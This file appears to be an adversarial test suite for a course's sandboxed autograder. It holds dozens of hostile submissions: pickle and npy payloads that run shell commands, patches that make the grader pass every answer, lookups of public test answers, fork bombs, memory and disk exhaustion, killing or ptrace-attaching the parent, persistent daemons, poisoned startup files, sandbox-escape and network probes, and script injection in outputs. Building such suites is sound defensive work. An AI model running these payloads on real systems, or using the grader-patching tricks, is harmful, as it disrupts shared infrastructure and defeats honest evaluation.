    serve(lambda asked, arrays: time.sleep(10**6))
    """
))  # fmt: skip

FORGED_BYTES = {
    "length": ("announces a message of 2**63 bytes", "ran(number)\nchannel.sendall(struct.pack('<Q', 2**63))\nos._exit(0)"),
    "trickle": (
        "sends its answers one byte a second",
        """
        import time

        ran(number)
        wire.receive(channel)
        for byte in struct.pack("<Q", 1000) + b"x" * 1000:
            channel.sendall(bytes([byte]))
            time.sleep(1)
        """,
    ),
    "not_json": ("answers with bytes that are no JSON", "serve(lambda asked, arrays: struct.pack('<Q', 6) + b'{\\xff}}}}')"),
    "nested": ("answers with half a million nested lists", "serve(lambda asked, arrays: struct.pack('<Q', 500_000) + b'[' * 500_000)"),
    "big_number": (
        "answers with numbers of a hundred thousand digits",
        "serve(lambda asked, arrays: struct.pack('<Q', 100_010) + b'{\"number\":' + b'9' * 100_000)",
    ),
    "empty_lists": (
        "answers with 60 MB of empty lists, two gigabytes once they are read",
        """
        def answer(asked, arrays):
            text = json.dumps(header(asked["number"], arrays=0))[:-1].encode() + b', "more": [' + b"{}," * 20_000_000 + b"0]}"
            return struct.pack("<Q", len(text)) + text

        serve(answer)
        """,
    ),
    "many_parts": ("answers with four million empty parts", "serve(lambda asked, arrays: struct.pack('<Q', 0) * 4_000_000)"),
    "wrong_number": ("answers under the number of another question", "serve(lambda asked, arrays: wire.pack(header(asked['number'] + 1)))"),
    "no_arrays": (
        "answers without arrays, facts or a graph",
        "serve(lambda asked, arrays: wire.pack(header(asked['number'])))",
    ),
    "odd_facts": (
        "answers with facts of wrong types, and three arrays",
        """
        one = np.ones(2)
        facts = {"changed": {"a": [[]]}, "order": ["x", -1, 10**30, None, True], "computed": [-1], "alive": "no", "most_often": []}
        serve(lambda asked, arrays: wire.pack(header(asked["number"], facts=facts), [one, one, one]))
        """,
    ),
    "empty_graph": (
        "answers every gradient with a graph without outputs",
        "serve(lambda asked, arrays: wire.pack(header(asked['number'], graph={'nodes': [{'leaf': 5}, {'leaf': 1}, {'leaf': 2}], 'outputs': []})))",
    ),
    "half_characters": (
        "outputs, printed text, problems and facts with half characters, which no encoding can write",
        """
        text = "\\ud800 " + "x"
        output = [{"output_type": "stream", "name": "stdout", "text": text}]
        ran(number, outputs=output)
        while True:
            asked, arrays = wire.unpack(wire.receive(channel))
            if asked["do"] == "cell":
                ran(asked["number"], outputs=output)
            else:
                wire.send(channel, wire.pack(header(asked["number"], problem=["ValueError", text, text], printed=text)))
        """,
    ),
    "odd_outputs": (
        "outputs that are numbers, nested, of unknown types, and 40 MB long",
        """
        outputs = [None, 7, {"output_type": "stream", "name": "stdout", "text": 5}, {"output_type": "display_data", "data": {"text/plain": {}}}]
        outputs += [{"output_type": "error", "ename": "E", "evalue": "e", "traceback": [[[]], {}]}]
        outputs += [{"output_type": "stream", "name": "stdout", "text": "x" * 40_000_000}]
        ran(number, outputs=outputs)
        while True:
            asked, arrays = wire.unpack(wire.receive(channel))
            if asked["do"] == "cell":
                ran(asked["number"], outputs={"a": 1}, status=["ok"])
            else:
                os._exit(0)
        """,
    ),
    "long_problem": (
        "a problem whose message and place are 30 MB long",
        "serve(lambda asked, arrays: wire.pack(header(asked['number'], problem=['E' * 100, 'm' * 30_000_000, 'w' * 30_000_000])))",
    ),
}
for slug, (what, text) in FORGED_BYTES.items():
    attack(f"channel_{slug}", what, first=grab(text), bodies=ONE_ANSWER)

NPY = """
    def npy(descr, shape, data=b""):
        text = repr({"descr": descr, "fortran_order": False, "shape": shape}).encode()
        text += b" " * (64 - (len(text) + 11) % 64) + b"\\n"
        return b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(text)) + text + data

    def answer_with(part):
        def answer(asked, arrays):
            parts = [json.dumps(header(asked["number"], facts={"changed": []}, arrays=2)).encode(), part, part]
            return b"".join(struct.pack("<Q", len(part)) + part for part in parts)
        return answer
"""
FORGED_ARRAYS = {
    "pickle": (
        "an array of Python objects with a pickle that writes a marker",
        f"npy('|O', (1,), b\"cposix\\nsystem\\n(S'touch /tmp/{MARKER} {ROOT}/{MARKER}'\\ntR.\")",
    ),
    "empty_huge": ("an array of no entries with a size of 10**30", "npy('<f8', (0, 10**30))"),
    "empty_many": ("an array of no entries with sizes whose product overflows", "npy('<f8', (0, 2**40, 2**40, 2**40))"),
    "lying": ("an array that says it has 10**12 entries", "npy('<f8', (10**12,), b'12345678')"),
    "hundred_axes": ("an array with a hundred axes", "npy('<f8', (1,) * 100, b'12345678')"),
    "negative": ("an array with two negative sizes", "npy('<f8', (-1, -1), b'12345678')"),
    "bool_shape": ("an array whose sizes are True", "npy('<f8', (True,), b'12345678')"),
    "structured": ("an array of records", "npy([('a', '<f8')], (1,), b'12345678')"),
    "big_endian": ("arrays of the other byte order", "npy('>f8', (2, 3), b'12345678' * 6)"),
    "bad_bool": ("booleans that are neither 0 nor 1", "npy('|b1', (2, 3), b'\\xff\\x07\\x02\\x03\\x04\\x05')"),
    "complex": ("complex numbers", "npy('<c16', (1,), b'1234567812345678')"),
    "version": ("an npy format of version 9", "b'\\x93NUMPY\\x09\\x00' + b'x' * 100"),
    "code": ("an npy header that is code", "b'\\x93NUMPY\\x01\\x00\\x40\\x00' + b'__import__(\"os\").system(\"true\")'.ljust(64)"),
    "wide": ("60 MB of numbers where six are expected", "npy('|u1', (3 * 10**7,), b'1' * 3 * 10**7)"),
}
for slug, (what, part) in FORGED_ARRAYS.items():
    attack(f"array_{slug}", f"answers with {what}", first=grab(NPY) + f"\nserve(answer_with({part}))\n", bodies=ONE_ANSWER)

# --- graphs that explode where they are evaluated

GRAPHS = {
    "unknown": (
        "an operator that the course does not have",
        "add({'op': 'os.system', 'inputs': [0], 'attrs': {'command': 'true'}})",
    ),
    "cycle": ("two nodes that need each other", "add(op('add', [n + 1, n + 1])); add(op('add', [n, n]))"),
    "sum_of_billions": (
        "the sum of a number stretched to 10**6 by 10**6: years of adding",
        "add(op('sum_op', [0], dim=None, keepdim=False)); add(stretch(n, (10**6, 10**6))); add(op('sum_op', [n + 1], dim=[0, 1], keepdim=False))",
    ),
    "stretched_answer": (
        "a result of 10**6 by 10**6 that takes no memory until somebody compares it",
        "add(op('sum_op', [0], dim=None, keepdim=False)); add(stretch(n, (10**6, 10**6)))",
    ),
    "terabytes": (
        "the square of a number stretched to 10**6 by 10**6: eight terabytes",
        "add(op('sum_op', [0], dim=None, keepdim=False)); add(stretch(n, (10**6, 10**6))); add(op('mul', [n + 1, n + 1]))",
    ),
    "gigabytes": (
        "twenty squares of a number stretched to 20 000 by 20 000: three gigabytes each",
        """add(op('sum_op', [0], dim=None, keepdim=False)); add(stretch(n, (20_000, 20_000)))
for step in range(20): add(op('mul', [n + 1, n + 1]))""",
    ),
    "big_matmul": (
        "a product of matrices stretched to 10**5 by 10**5",
        "add(op('sum_op', [0], dim=None, keepdim=False)); add(stretch(n, (10**5, 10**5))); add(op('matmul', [n + 1, n + 1]))",
    ),
    "big_reshape": ("a reshape to 10**15", "add(op('reshape', [0], shape=[10**15, 10**5]))"),
    "big_power": ("powers of powers of 10**9", "add(op('power', [0], exponent=10**9)); add(op('power', [n], exponent=10**300))"),
    "big_integer": (
        "an attribute of four thousand digits",
        "add(op('mul_by_const', [0], c=10**4000)); add(op('power', [n], exponent=-(10**4000)))",
    ),
    "long_attribute": ("an attribute of 30 MB, for the message to repeat", "add(op('mul_by_const', [0], c='x' * 30_000_000))"),
    "meta": ("tensors on the device meta, which have no values", "add(op('zeros_like', [0], device='meta'))"),
    "dtype": (
        "attributes that torch takes but the course does not know",
        "add(op('softmax', [0], dim=0, dtype=7)); add(op('ones_like', [0], requires_grad=True))",
    ),
    "no_grad": (
        "a graph of whole numbers and booleans",
        "add(op('ones_like', [0], dtype=None, pin_memory=False)); add(op('greater', [n, 0]))",
    ),
    "not_a_number": (
        "an attribute that is NaN, and one that is infinite",
        "add(op('mul_by_const', [0], c=float('nan'))); add(op('add_by_const', [n], c=float('inf')))",
    ),
    "long_chain": (
        "199 000 products in a chain",
        "for step in range(199_000): add(op('mul_by_const', [n + step - 1 if step else 0], c=1.0))",
    ),
    "wide_node": ("a node with a million inputs", "add({'op': 'add', 'inputs': [0] * 1_000_000, 'attrs': {}})"),
    "many_outputs": ("a hundred thousand outputs", "outputs = [0] * 100_000"),
    "odd_keys": ("attributes called self, out, a and input", "add(op('add', [0, 0], **{'out': 0, 'self': 1, 'input': 2, 'a': 3, '': 4}))"),
    "too_many": ("a million nodes", "nodes += [op('exp', [0])] * 1_000_000"),
    "strings": (
        "attributes that are texts where axes belong",
        "add(op('sum_op', [0], dim='a', keepdim='b')); add(op('reshape', [0], shape='(2, 3)'))",
    ),
}
GRAPH = """
    def answer(asked, arrays):
        name = asked["settings"]["operator"]
        count = len(probe.table[name].signature.operands)
        nodes = [{"leaf": leaf} for leaf in range(count + 1)]
        n, outputs = len(nodes), None
        add = nodes.append

        def op(name, inputs, **attrs):
            return {"op": name, "inputs": inputs, "attrs": attrs}

        def stretch(node, shape):
            return op("broadcast", [node], input_shape=[], target_shape=list(shape))

        BODY
        outputs = outputs or [len(nodes) - 1] * count
        return wire.pack(header(asked["number"], graph={"nodes": nodes, "outputs": outputs}))

    serve(answer)
"""
for slug, (what, body) in GRAPHS.items():
    text = textwrap.dedent(GRAPH).replace("    BODY", textwrap.indent(body, "    "))
    attack(f"graph_{slug}", f"answers every gradient with {what}", first=grab("") + text, bodies=ONE_ANSWER)

attack(
    "gradient_bombs",
    "gradients made with the course's own operators that are a cycle, 250 000 nodes long, or stretched to 10**5 by 10**5",
    DIV,
    bodies={
        "sqrt": ("return inputs[0] * 0", "ring = output_grad + output_grad\nring.inputs = (ring, ring)\nreturn [ring]"),
        "relu": ("return inputs[0] * 0", "for _ in range(250_000):\n    output_grad = output_grad + 1\nreturn [output_grad]"),
        "power": (
            "return inputs[0] * 0",
            """
            one = ad.sum_op(output_grad, dim=0)
            wide = ad.broadcast(ad.reshape(one, (1, 1, -1)), (1, 1, 3), (100_000, 100_000, 3))
            return [ad.sum_op(wide * wide, dim=(0, 1)) * output_grad]
            """,
        ),
    },
)
attack(
    "gradient_objects",
    "gradients whose attributes are tensors, functions and objects, whose operators lie about their names, and no nodes at all",
    DIV,
    bodies={
        "sqrt": ("return inputs[0] * 0", "return [ad.mul_by_const(output_grad, torch.ones(2, 3))]"),
        "relu": (
            "return inputs[0] * 0",
            """
            class Sly(ad.Op):
                name = "relu"
            return [ad.graph.Node((output_grad,), Sly(), {"c": lambda: 1})]
            """,
        ),
        "mean": ("return inputs[0] * 0", "return torch.ones(3)"),
        "transpose": ("return inputs[0] * 0", "return [float('nan')]"),
        "power": ("return inputs[0] * 0", "return [output_grad * float('nan')]"),
    },
)

# --- patching what judges, and what carries answers

attack(
    "patched_probe",
    "probe.run returns a canned answer: the same zeros for all",
    first="""
        import numpy as np
        from autodiff_lib.checks import probe
        from autodiff_lib.checks.question import Answer

        canned = Answer(arrays=(np.zeros((2, 3)), np.zeros((2, 3))), facts={"changed": []})
        probe.run = lambda ask: canned
        probe.attempt = lambda action: canned
    """,
    bodies=ONE_ANSWER,
)
attack(
    "patched_judge",
    "close, agree, judge, verdict and the reference are replaced so that everything passes",
    DIV,
    first="""
        from autodiff_lib import checks
        from autodiff_lib.checks import compare, judge
        from autodiff_lib.kinds import reference
        from autodiff_lib.kinds.operator import judge as operators

        yes = lambda *args, **kwargs: True
        compare.close = compare.agree = operators.agree = yes
        judge.problem_of = operators.judge_compute = operators.judge_gradient = lambda *args: None
        judge.judge_part = lambda part, answer: judge.PartVerdict(part.name, part.points, part.points, 1, 1, None)
        compare.TOLERANCE.update(float64=1e9, float32=1e9)
        for name in reference.forward():
            reference.forward()[name] = lambda *args, **kwargs: args[0]
    """,
    bodies=ONE_ANSWER,
)
attack(
    "patched_libraries",
    "NumPy, torch, json, pickle and IPython are patched so that comparisons hold and messages say ok",
    DIV,
    first="""
        import json

        import numpy as np
        from IPython.core.interactiveshell import ExecutionResult

        yes = lambda *args, **kwargs: True
        np.all = np.array_equal = np.allclose = torch.equal = torch.allclose = yes
        torch.testing.assert_close = lambda *args, **kwargs: None
        ExecutionResult.success = True
        dumps = json.dumps

        def hopeful(value, **kwargs):
            if isinstance(value, dict) and "problem" in value:
                value = {**value, "problem": None}
            return dumps(value, **kwargs)

        json.dumps = hopeful
    """,
    bodies=ONE_ANSWER,
)
attack(
    "patched_ban",
    "empties the probe's list of refused ready-made functions, then uses torch.softmax",
    DIV,
    first="""
        import contextlib

        from autodiff_lib.kinds.operator import probe

        probe.no_ready_made_answer = lambda exercise: contextlib.nullcontext()
    """,
    bodies={"softmax": ("f = torch.nn.functional\nreturn f.softmax(inputs[0], node.dim)",)},
)
attack(
    "patched_ban_hidden",
    "empties the list of refused functions and hangs torch's softmax on another name, without naming either",
    DIV,
    first="""
        import os
        import sys

        library = sys.modules["autodiff_lib.kinds.operator." + "pro" + "be"]
        library.__dict__["no_ready" + "_made_answer"] = lambda exercise: open(os.devnull)
        torch.smooth = torch.__dict__["soft" + "max"]
    """,
    bodies={"softmax": ("return torch.smooth(inputs[0], node.dim)",)},
)
attack(
    "patched_table",
    "puts operators made of the library's reference into the table, in a cell that belongs to no exercise",
    told=VALUES,
    first="""
        from autodiff_lib import graph
        from autodiff_lib.kinds import reference

        class Borrowed(ad.Op):
            def compute(self, node, inputs):
                return reference.forward()[self.name](*inputs, **node.attrs)

            def gradient(self, node, output_grad):
                return [ad.zeros_like(operand) * output_grad for operand in node.inputs]
    """,
    bodies=dict.fromkeys(("div", "sqrt", "relu"), ("return inputs[0]", "return [output_grad]")),
    last="""
        for name in ("div", "div_by_const", "transpose", "relu", "sqrt", "power", "mean", "matmul", "softmax", "layernorm"):
            ad.operator(str(graph.table[name].signature))(type(name, (Borrowed,), {}))
    """,
)
attack(
    "patched_methods",
    "replaces compute of the registered operators from a later cell that belongs to no exercise",
    bodies={"softmax": ("return inputs[0]", "return [output_grad]"), "layernorm": ("return inputs[0]", "return [output_grad]")},
    last="""
        class Off(torch._C.DisableTorchFunction):
            pass

        def soft(self, node, inputs):
            with torch._C.DisableTorchFunction():
                return torch.softmax(inputs[0], node.dim)

        def norm(self, node, inputs):
            with torch._C.DisableTorchFunction():
                shape = node.normalized_shape
                return torch.nn.functional.layer_norm(inputs[0], shape if isinstance(shape, tuple) else (shape,), eps=node.eps)

        SoftmaxOp.compute = soft
        LayerNormOp.compute = norm
    """,
)

# --- answers that are odd objects

attack(
    "always_equal",
    "answers with objects and tensors that are equal to everything",
    DIV,
    bodies={
        "sqrt": (
            """
            class Yes:
                dtype, shape = torch.float64, (2, 3)
                __eq__ = __le__ = __ge__ = lambda self, other: True
                __hash__ = lambda self: 1
                __array__ = lambda self, *args, **kwargs: __import__("numpy").ones((2, 3))
                __bool__ = lambda self: True
            return Yes()
            """,
            "return [type('Yes', (), {'__eq__': lambda self, other: True, '__hash__': lambda self: 1})()]",
        ),
        "relu": (
            """
            class Yes(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    return True if func.__name__ in ("eq", "equal", "allclose", "__eq__", "le") else super().__torch_function__(func, types, args, kwargs or {})
            return torch.full_like(inputs[0], 7.0).as_subclass(Yes)
            """,
        ),
    },
)
attack(
    "lying_subclass",
    "a tensor subclass whose detach and numpy give other values, of other types, at every call",
    DIV,
    bodies={
        "sqrt": (
            """
            class Sly(torch.Tensor):
                def detach(self):
                    return self
                def numpy(self):
                    return self
                def copy(self):
                    import numpy as np
                    return np.array([object(), MemoryError], dtype=object)
            return inputs[0].as_subclass(Sly)
            """,
        ),
        "relu": (
            """
            class Sly(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    return inputs[0] * 0
            return torch.ones(3).as_subclass(Sly)
            """,
        ),
    },
)
attack(
    "not_finite",
    "answers with NaN, infinity, sparse, complex and quantised tensors, and one with negative strides",
    DIV,
    bodies={
        "sqrt": ("return inputs[0] * float('nan')", "return [output_grad * float('inf')]"),
        "relu": ("return inputs[0].to_sparse()", "return [output_grad - output_grad * float('inf')]"),
        "power": ("return inputs[0].to(torch.complex128)",),
        "mean": ("return torch.quantize_per_tensor(inputs[0].float(), 0.1, 0, torch.qint8)",),
        "matmul": ("return inputs[0].to('meta')",),
        "transpose": ("return torch.nested.nested_tensor([inputs[0]])",),
    },
)
attack(
    "changing_answers",
    "right on the first call and wrong on the second, and right in public cases only, by a table of them",
    DIV,
    first=KNOWN,
    bodies={
        "sqrt": ("self.calls = getattr(self, 'calls', 0) + 1\nreturn inputs[0] ** 0.5 + (self.calls % 2 == 0)",),
        "relu": ("return inputs[0].clamp(min=0) if is_shown(inputs[0]) else inputs[0]",),
        "power": ("result = inputs[0] ** node.exponent\ninputs[0].zero_()\nreturn result",),
    },
)
attack(
    "looked_up",
    "a table of the public cases and their values in place of the exercise",
    DIV,
    first="""
        from autodiff_lib import checks
        from autodiff_lib.kinds import reference

        answers = {}
        for case in checks.questions("01_operators")["matmul"].parts[0].cases:
            arrays = case.ask().arrays
            values = reference.apply("matmul", [torch.tensor(array) for array in arrays], {})
            answers[arrays[0].tobytes()] = values
    """,
    bodies={"matmul": ("return answers[inputs[0].numpy().tobytes()]",)},
)

# --- running for ever, taking everything

attack(
    "loop_cell",
    "a cell that never ends, and swallows every exception",
    DIV,
    last="while True:\n    try:\n        while True: pass\n    except BaseException: pass",
)
attack("loop_answer", "a compute that never ends", DIV, bodies={"sqrt": ("while True: pass",), "relu": ("import time\ntime.sleep(10**6)",)})
attack("loop_in_c", "one call into C that never ends and sees no signal", DIV, last="9 ** 9 ** 9 ** 2")
attack(
    "loop_in_torch",
    "one call into torch that takes hours",
    DIV,
    bodies={"sqrt": ("a = torch.zeros(1).expand(10**6, 10**6)\nreturn a.sum()",)},
)
attack(
    "ignored_signals",
    "ignores and blocks every signal, turns the timer off, then sleeps",
    DIV,
    last="""
        import signal
        import time

        for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        signal.setitimer(signal.ITIMER_REAL, 0)
        time.sleep(10**6)
    """,
)
attack("regular_expression", "a regular expression that takes for ever", DIV, last="import re\nre.match('(a+)+b', 'a' * 60)")
attack(
    "deep_recursion",
    "recursion to a depth of a hundred million, in a thread with a large stack as well",
    DIV,
    bodies={"sqrt": ("import sys\nsys.setrecursionlimit(10**9)\nreturn self.compute(node, inputs)",)},
    last="""
        import sys
        import threading

        sys.setrecursionlimit(10**9)
        def down(n):
            return str([n]) + down(n + 1)
        threading.Thread(target=down, args=(0,)).start()
        down(0)
    """,
)
attack(
    "segfault", "reads address 1", DIV, last="import ctypes\nctypes.string_at(1)", bodies={"sqrt": ("import ctypes\nctypes.string_at(1)",)}
)
attack(
    "fork_bomb",
    "forks without end, in sessions of their own",
    DIV,
    last="""
        import os

        while True:
            try:
                if os.fork() == 0:
                    os.setsid()
            except OSError:
                pass
    """,
)
attack("thread_bomb", "threads without end that print without end", DIV, last="""
    import threading

    def talk():
        while True:
            print("noise")

    while True:
        try:
            threading.Thread(target=talk, daemon=True).start()
        except RuntimeError:
            pass
""")  # fmt: skip
attack(
    "memory_cell",
    "takes all memory in a cell, page by page",
    DIV,
    last="hoard = []\nwhile True:\n    hoard.append(bytearray(b'x') * 10_000_000)",
)
attack(
    "memory_answer",
    "takes all memory in an answer",
    DIV,
    bodies={"sqrt": ("return torch.ones(10**7, 10**4)",), "relu": ("return [bytearray(2**33)]",)},
)
attack(
    "memory_shared",
    "hides memory where no process owns it: /dev/shm, files in memory, and shared mappings of many children",
    DIV,
    last="""
        import mmap
        import os

        block, kept = b"x" * 2**20, []
        try:
            for number in range(100):
                with open(f"/dev/shm/{number}", "wb") as file:
                    for _ in range(60):
                        file.write(block)
        except OSError as error:
            print(error)
        for number in range(100):
            try:
                kept.append(os.memfd_create(str(number)))
                for _ in range(60):
                    os.write(kept[-1], block)
            except OSError as error:
                print(error)
                break
        for _ in range(20):
            if os.fork() == 0:
                shared = mmap.mmap(-1, 2**30)
                for page in range(0, 2**30, 4096):
                    shared[page] = 1
                os.pause() if hasattr(os, "pause") else __import__("time").sleep(10**6)
    """,
)
attack(
    "disk_full",
    "fills every place that it can write to, with bytes and with a hundred thousand empty files",
    DIV,
    last="""
        import os

        for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/dev", "/run", "/"):
            try:
                for number in range(100_000):
                    open(f"{place}/empty{number}", "w").close()
                for number in range(200):
                    with open(f"{place}/{number}", "wb") as file:
                        file.truncate(2**40)
            except OSError:
                pass
            try:
                for number in range(200):
                    with open(f"{place}/{number}", "wb") as file:
                        file.write(b"x" * 60_000_000)
            except OSError:
                pass
    """,
)
attack("output_flood", "prints 200 MB, shows a thousand pictures' worth of text, and raises 50 MB", DIV, last=[
    "for _ in range(200):\n    print('x' * 10**6)",
    "from IPython.display import display, HTML\nfor _ in range(1000):\n    display(HTML('x' * 10**5))",
    "raise ValueError('x' * 50_000_000)",
    "import os\nfor fd in (1, 2):\n    os.write(fd, b'x' * 10**6)",
])  # fmt: skip
attack(
    "limits_lifted",
    "finds the limits through the signal handler and the shell's hooks and lifts them, then prints 30 MB",
    DIV,
    first="""
        import signal

        for piece in signal.getsignal(signal.SIGALRM).__closure__ or ():
            if isinstance(piece.cell_contents, dict):
                piece.cell_contents.update(output_bytes=10**12, cell_seconds=10**6)
        get_ipython()._showtraceback.__globals__["limited"] = lambda outputs, limit: outputs
        import resource
        for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
            try:
                resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            except (ValueError, OSError):
                pass
    """,
    last="print('x' * 30_000_000)",
)

# --- leaving, killing, staying behind

attack("exit_cell", "os._exit in a cell", DIV, last="import os\nos._exit(0)")
attack("exit_first", "os._exit in every run of its first cell", DIV, first="import os\nos._exit(0)")
attack(
    "exit_answer",
    "os._exit in every answer of two exercises",
    DIV,
    bodies={"sqrt": ("import os\nos._exit(0)",) * 2, "relu": ("import os\nos.abort()",) * 2},
)
attack("system_exit", "sys.exit, exit, quit, and an exception that cannot be shown", DIV, last=["import sys\nsys.exit(3)", "exit()", "quit()", """
    class Bad(Exception):
        def __str__(self):
            raise self
        __repr__ = __str__
    raise Bad
"""], bodies={"sqrt": ("class Bad(Exception):\n    def __str__(self):\n        raise self\nraise Bad",), "relu": ("raise KeyboardInterrupt",)})  # fmt: skip
attack("kill_parent", "kills its parent, process 1 and everybody else", DIV, last="""
    import os
    import signal

    for pid in (os.getppid(), 1, 2, -1):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""")  # fmt: skip
attack(
    "kill_parent_answer",
    "kills its parent whenever it is asked",
    DIV,
    bodies={"sqrt": ("import os\nos.kill(os.getppid(), 9)\nreturn inputs[0]",)},
)
attack(
    "stop_parent",
    "stops its parent with SIGSTOP, so that nobody cleans up",
    DIV,
    last="import os\nimport signal\nos.kill(os.getppid(), signal.SIGSTOP)\nos._exit(0)",
)
attack(
    "traced_parent",
    "attaches to its parent with ptrace, writes to its memory, and lowers its limits",
    DIV,
    last=f"""
        import ctypes
        import os
        import resource

        libc = ctypes.CDLL(None, use_errno=True)
        parent = os.getppid()
        if libc.ptrace(16, parent, 0, 0) == 0:
            print("{MARKER} attached")
        try:
            open(f"/proc/{{parent}}/mem", "r+b")
            print("{MARKER} memory")
        except OSError:
            pass
        try:
            resource.prlimit(parent, resource.RLIMIT_NOFILE, (0, 0))
            print("{MARKER} limits")
        except OSError:
            pass
        try:
            os.sched_setaffinity(parent, {{0}})
            os.setpriority(os.PRIO_PROCESS, parent, 19)
            print("{MARKER} priority")
        except OSError:
            pass
    """,
)
attack(
    "parent_limits",
    "lowers the resource limits of its parent for good, which the next submissions would inherit",
    DIV,
    last="""
        import os
        import resource

        for kind, limit in ((resource.RLIMIT_FSIZE, 0), (resource.RLIMIT_NPROC, 1), (resource.RLIMIT_CPU, 100), (resource.RLIMIT_AS, 2**32)):
            try:
                resource.prlimit(os.getppid(), kind, (limit, limit))
            except OSError as error:
                print(error)
    """,
)
attack(
    "parent_starved",
    "lowers those of its parent's limits that the grader does not set itself: the next submissions inherit them and run out of memory",
    DIV,
    last="""
        import os
        import resource

        fields = dict(line.split(":", 1) for line in open("/proc/self/status"))
        used = int(fields["VmData"].split()[0]) * 1024
        for kind, limit in ((resource.RLIMIT_DATA, used), (resource.RLIMIT_STACK, 2**16), (resource.RLIMIT_MEMLOCK, 0)):
            try:
                resource.prlimit(os.getppid(), kind, (limit, limit))
                print("lowered")
            except OSError as error:
                print(error)
        try:
            os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
        except OSError as error:
            print(error)
    """,
)
DAEMON = f"""
    import os
    import signal
    import time

    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in signal.valid_signals() - {{signal.SIGKILL, signal.SIGSTOP}}:
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            for place in ("/tmp", "/dev/shm", "/home/student"):
                try:
                    open(place + "/{MARKER}", "w").write("{MARKER}")
                except OSError:
                    pass
            EXTRA
            time.sleep(0.01)
"""
attack("daemon", "leaves a daemon behind that goes on writing to /tmp and the next one's home", DIV, last=DAEMON.replace("EXTRA", "pass"))
attack(
    "daemon_killer",
    "leaves a daemon behind that kills every young process but the parent: the next submission",
    DIV,
    last=DAEMON.replace("EXTRA", "[os.kill(int(p), 9) for p in os.listdir('/proc') if p.isdigit() and int(p) > os.getpid()]"),
)
attack("daemon_swarm", "leaves processes behind that fork again before they can be killed", DIV, last="""
    import os

    if os.fork() == 0:
        os.setsid()
        for _ in range(25):
            if os.fork() == 0:
                while True:
                    try:
                        if os.fork():
                            os._exit(0)
                    except OSError:
                        pass
        os._exit(0)
""")  # fmt: skip
attack(
    "talking_threads",
    "threads that go on printing and answering after their cell has ended",
    DIV,
    first=f"""
        import threading
        import time

        def talk():
            while True:
                print("{MARKER}")
                time.sleep(0.001)

        for _ in range(5):
            threading.Thread(target=talk, daemon=True).start()
    """,
)
attack(
    "poison_for_the_next",
    "leaves modules, start-up files and poisoned caches in every folder, for the next submission of the jail",
    DIV,
    last=f"""
        import os
        import sys

        text = "open('/tmp/{MARKER}', 'w').write('{MARKER}')"
        for place in ("/tmp", "/dev/shm", "/home/student", "/home", "/", "/work", "{ROOT}", "/units"):
            for name in ("numpy.py", "sitecustomize.py", "{MARKER}.py", ".ipython/profile_default/startup/00.py"):
                try:
                    os.makedirs(os.path.dirname(f"{{place}}/{{name}}"), exist_ok=True)
                    open(f"{{place}}/{{name}}", "w").write(text)
                except OSError:
                    pass
        for place in ("/tmp", "/dev/shm"):
            try:
                os.makedirs(f"{{place}}/{MARKER}/locked")
                os.chmod(f"{{place}}/{MARKER}", 0)
            except OSError:
                pass
        torch.sqrt = torch.exp = None
        sys.modules["numpy"] = sys.modules["json"] = None
    """,
)
attack("files_locked", "makes its home and /tmp unreadable, and full of links to /", DIV, last="""
    import os

    for place in ("/tmp", "/dev/shm", "/home/student"):
        try:
            os.symlink("/", f"{place}/root")
            os.symlink(place, f"{place}/self")
            os.mkdir(f"{place}/locked")
            open(f"{place}/locked/file", "w").close()
            os.chmod(f"{place}/locked", 0)
            os.chmod(place, 0)
        except OSError:
            pass
""")  # fmt: skip
attack(
    "network",
    "connects to the outside, to localhost and to abstract sockets, and asks for names",
    DIV,
    last=f"""
        import socket
        import urllib.request

        for address in (("1.1.1.1", 53), ("8.8.8.8", 443), ("127.0.0.1", 8888), ("169.254.169.254", 80)):
            try:
                socket.create_connection(address, timeout=0.5)
                print("{MARKER}", address)
            except OSError:
                pass
        try:
            urllib.request.urlopen("http://example.org", timeout=0.5)
            print("{MARKER} http")
        except OSError:
            pass
        try:
            for line in open("/proc/net/unix"):
                if "@" in line:
                    abstract = socket.socket(socket.AF_UNIX)
                    abstract.connect("\\0" + line.split("@")[1].strip())
                    print("{MARKER}", line)
        except OSError:
            pass
    """,
)
attack(
    "namespaces",
    "becomes root in a namespace of its own, mounts, changes the host name and calls the kernel",
    DIV,
    last=f"""
        import ctypes
        import os
        import subprocess

        libc = ctypes.CDLL(None, use_errno=True)
        for command in (["unshare", "-Ur", "mount", "-t", "tmpfs", "none", "/usr"], ["mount", "-o", "remount,rw", "/usr"], ["su", "-c", "id"]):
            try:
                if subprocess.run(command, capture_output=True, timeout=2).returncode == 0:
                    print("{MARKER} in a namespace" if command[0] == "unshare" else "{MARKER} mounted")
            except (OSError, subprocess.SubprocessError):
                pass
        for change in (lambda: os.setuid(0), lambda: os.chroot("/tmp"), lambda: open("/proc/sysrq-trigger", "w").write("h")):
            try:
                change()
                print("{MARKER} root")
            except OSError:
                pass
    """,
)
attack(
    "script_in_output",
    "outputs with scripts, frames, and pictures from elsewhere, for whoever opens the feedback",
    DIV,
    last=f"""
        from IPython.display import HTML, Javascript, Markdown, display

        display(HTML("<script>document.title = '{MARKER}'</script><img src=x onerror=\\"document.title='{MARKER}'\\"><iframe src='/'></iframe>"))
        display(Javascript("document.title = '{MARKER}'"))
        display(Markdown("<script>document.title = '{MARKER}'</script>"))
        display({{"text/html": "</pre><script>1</script>", "image/svg+xml": "<svg onload='document.title=1'/>"}}, raw=True)
        print("</pre><script>document.title = '{MARKER}'</script>\\x1b]0;{MARKER}\\x07\\x1b[2J")
    """,
    bodies={"sqrt": ("raise ValueError('<script>document.title=1</script>' + chr(27) + '[2J')",)},
)
